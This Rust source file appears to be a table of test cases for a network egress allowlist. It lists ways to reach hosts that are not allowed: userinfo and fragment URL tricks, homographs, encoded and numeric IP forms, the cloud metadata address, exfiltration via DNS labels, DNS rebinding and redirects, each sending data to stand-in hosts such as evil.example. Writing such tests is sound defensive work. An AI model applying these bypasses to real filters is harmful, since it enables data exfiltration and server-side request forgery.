//! Which host it is: names, addresses, and what names lead to.

use super::row::{Row, Shown, row, shown};

/// Names that are not on the list, or that some program reads as another.
pub const ROWS: &[Row] = &[
    row(
        "a host that is not listed",
        "tunnel('evil.example:443', tls(M, 'evil.example'))",
    ),
    row("the same by plain HTTP", "get('http://evil.example/' + M)"),
    row(
        "below a listed host",
        "tunnel('x.good.example:443', tls(M, 'x.good.example'))",
    ),
    row(
        "the parent of a suffix entry",
        "tunnel('sub.example:443', tls(M, 'sub.example'))",
    ),
    row(
        "a suffix entry's name behind other letters",
        "tunnel('evilsub.example:443', tls(M, 'evilsub.example'))",
    ),
    row(
        "a listed name as a prefix",
        "tunnel('good.example.evil.example:443', tls(M, 'good.example.evil.example'))",
    ),
    row(
        "a listed name in other separators",
        "tunnel('good-example.evil.example:443', tls(M, 'good-example.evil.example'))",
    ),
    row(
        "a trailing dot",
        "tunnel('good.example.:443', tls(M, 'good.example'))",
    ),
    row(
        "two trailing dots",
        "tunnel('good.example..:443', tls(M, 'good.example'))",
    ),
    row(
        "a leading dot",
        "tunnel('.good.example:443', tls(M, 'good.example'))",
    ),
    row(
        "an empty label",
        "tunnel('good..example:443', tls(M, 'good.example'))",
    ),
    row(
        "a suffix entry with nothing below it",
        "tunnel('.sub.example:443', tls(M, '.sub.example'))",
    ),
    row(
        "capital letters",
        "tunnel('EVIL.Example:443', tls(M, 'EVIL.Example'))",
    ),
    row(
        "a homograph in UTF-8",
        "tunnel('g\\u00f3od.example:443'.encode().decode('latin-1'), tls(M, 'good.example'))",
    ),
    row(
        "a homograph as xn--",
        "tunnel('xn--god-example-0yb.example:443', tls(M, 'xn--god-example-0yb.example'))",
    ),
    row(
        "a full-width dot",
        "tunnel('good\\uff0eexample:443'.encode().decode('latin-1'), tls(M, 'good.example'))",
    ),
    row("an encoded dot", "get('http://evil%2eexample/' + M)"),
    row(
        "an encoded end of the name",
        "get('http://good.example%00.evil.example/' + M)",
    ),
    row(
        "a listed name as user",
        "get('http://good.example@evil.example/' + M)",
    ),
    row(
        "a listed name and port as user and password",
        "get('http://good.example:80@evil.example/' + M)",
    ),
    row(
        "a user in CONNECT",
        "tunnel('good.example@evil.example:443', tls(M, 'evil.example'))",
    ),
    row(
        "a backslash before the path",
        "get('http://evil.example\\\\@good.example/' + M, 'good.example')",
    ),
    row(
        "a fragment that hides the host",
        "get('http://evil.example#@good.example/' + M, 'good.example')",
    ),
    row(
        "a query that hides the host",
        "get('http://evil.example?@good.example/' + M, 'good.example')",
    ),
    row(
        "a listed host's other port",
        "tunnel('good.example:25', 'EHLO ' + M + '\\r\\n')",
    ),
    row(
        "the same by plain HTTP to the port",
        "get('http://good.example:8443/' + M)",
    ),
    row(
        "a declared host's other port",
        "tunnel('port.example:443', tls(M, 'port.example'))",
    ),
    row(
        "a port that overflows",
        "tunnel('good.example:65979', tls(M, 'good.example'))",
    ),
    row(
        "a port with a sign",
        "tunnel('good.example:+443', tls(M, 'good.example'))",
    ),
    shown(
        Shown::At("dns"),
        "a name that carries data to whoever serves its zone",
        "tunnel(M + '.evil.example:443')",
    ),
];

/// Addresses in the place of names.
pub const ADDRESSES: &[Row] = &[
    row("an address", "get('http://203.0.113.66/' + M)"),
    row(
        "an address in a tunnel",
        "tunnel('203.0.113.66:443', tls(M, '203.0.113.66'))",
    ),
    row(
        "the address of a listed host",
        "tunnel('203.0.113.10:443', tls(M, 'good.example'))",
    ),
    row("a decimal address", "get('http://3405803842/' + M)"),
    row("an octal address", "get('http://0313.0.0161.0102/' + M)"),
    row(
        "a hexadecimal address",
        "get('http://0xcb.0x0.0x71.0x42/' + M)",
    ),
    row(
        "a hexadecimal address without dots",
        "get('http://0xcb007142/' + M)",
    ),
    row("a short address", "get('http://203.28994/' + M)"),
    row("the metadata service", "get('http://169.254.169.254/' + M)"),
    row(
        "the metadata service, decimal",
        "get('http://2852039166/' + M)",
    ),
    row(
        "the metadata service, mapped",
        "get('http://[::ffff:169.254.169.254]/' + M)",
    ),
    row(
        "the metadata service in a tunnel to port 80",
        "tunnel('169.254.169.254:80', 'GET /' + M + ' HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n')",
    ),
    row("an IPv6 address", "get('http://[fd77::1]/' + M)"),
    row(
        "a mapped address",
        "tunnel('[::ffff:203.0.113.66]:443', tls(M))",
    ),
    row("another pod", "get('http://10.77.0.1/' + M)"),
];

/// Listed names that lead inside.
pub const RESOLVED: &[Row] = &[
    row(
        "a name for a private address",
        "get('http://inside.example/' + M)",
    ),
    row(
        "the same in a tunnel",
        "tunnel('inside.example:443', tls(M, 'inside.example'))",
    ),
    row(
        "a name for the metadata service",
        "get('http://meta.example/' + M)",
    ),
    row("a name for 192.168/16", "get('http://home.example/' + M)"),
    row("a name for 172.16/12", "get('http://company.example/' + M)"),
    row("a name for 100.64/10", "get('http://carrier.example/' + M)"),
    row(
        "a name for the pod's own network",
        "get('http://pod.example/' + M)",
    ),
    row("a name for 198.18/15", "get('http://bench.example/' + M)"),
    row(
        "a name for a 6to4 relay",
        "get('http://relay.example/' + M)",
    ),
    row("a name for the loopback", "get('http://loop.example/' + M)"),
    row(
        "a name for the loopback, IPv6",
        "get('http://loop6.example/' + M)",
    ),
    row(
        "a name for the loopback, mapped",
        "get('http://mapped-loop.example/' + M)",
    ),
    row("a name for no address", "get('http://zero.example/' + M)"),
    row(
        "a name for no address, IPv6",
        "get('http://zero6.example/' + M)",
    ),
    row(
        "a name for a unique local address",
        "get('http://ula.example/' + M)",
    ),
    row(
        "a name for a site-local address",
        "get('http://site.example/' + M)",
    ),
    row(
        "a name for a mapped private address",
        "get('http://mapped.example/' + M)",
    ),
    row(
        "a name for a private address behind NAT64",
        "get('http://nat64.example/' + M)",
    ),
    row(
        "a name for a private address behind 6to4",
        "get('http://sixtofour.example/' + M)",
    ),
    row(
        "a name for a private address behind Teredo",
        "get('http://teredo.example/' + M)",
    ),
    row(
        "an alias of an internal name",
        "get('http://alias.example/' + M)",
    ),
    shown(
        Shown::At("tcp outside 10."),
        "a name that leads elsewhere the second time",
        "get('http://rebind.example/' + M) + get('http://rebind.example/' + M)",
    ),
    shown(
        Shown::At("tcp outside 10."),
        "a name that leads elsewhere the second time, in a tunnel",
        "tunnel('rebind2.example:443', tls(M, 'rebind2.example')) + tunnel('rebind2.example:443', tls(M, 'rebind2.example'))",
    ),
    shown(
        Shown::At("tcp outside 10."),
        "a redirect to an internal name",
        "follow('http://good.example/redirect?' + M)",
    ),
];
